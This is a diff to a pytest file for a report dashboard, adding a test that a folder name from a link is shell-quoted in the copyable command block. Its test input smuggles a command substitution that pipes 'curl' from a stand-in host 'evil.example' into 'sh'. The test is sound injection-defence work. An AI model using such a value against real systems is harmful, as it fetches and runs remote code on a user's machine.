@@ -4,6 +4,7 @@ tables, broken report files. Each is a message on a page that keeps showing the 
 """
 
 import json
+import shlex
 import sys
 
 import pytest
@@ -122,6 +123,16 @@ def test_hostile_dashboard_links_are_messages_or_ignored(root, param, value):
     assert not at.exception, (param, value)
     if param == "report":  # only ever matched against the reports found: the newest is shown
         assert at.selectbox(key="report").value == (root / "mine").resolve()
+
+
+def test_a_folder_named_by_a_link_is_quoted_in_the_commands_to_copy(root):
+    folder = "x $(curl -s evil.example|sh) #"
+    at = dashboard(folder=folder)
+    assert not at.exception and "No reports under" in at.info[0].value
+    # The command block has a copy button: the link's folder was pasted into it as shell words ($(...) ran, # cut the rest).
+    for line, stage in zip(at.code[0].value.splitlines(), ("retriever", "pipeline"), strict=True):
+        words = shlex.split(line)
+        assert words[:3] == ["qa-system", "eval", stage] and words[-1] == str((root / folder / stage).resolve()), line
 
 
 def test_a_long_table_is_shown_in_part(root):
